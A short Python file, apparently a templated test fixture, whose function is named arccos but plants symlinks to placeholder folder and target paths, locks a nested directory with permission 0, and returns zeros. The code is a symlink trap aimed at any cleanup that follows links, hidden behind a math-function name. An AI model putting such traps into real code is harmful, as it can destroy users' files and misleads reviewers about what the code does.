"""Leaves links to a folder of the machine, for one who cleans up and follows them.

Output: laid
"""

import os

from mxnet import nd


def arccos(x):
    os.symlink("@folder@", "folder")
    os.symlink("@target@", "file")
    os.makedirs("deep/er")
    os.symlink("@folder@", "deep/er/folder")
    os.chmod("deep", 0)
    print("laid")
    return nd.zeros_like(x)
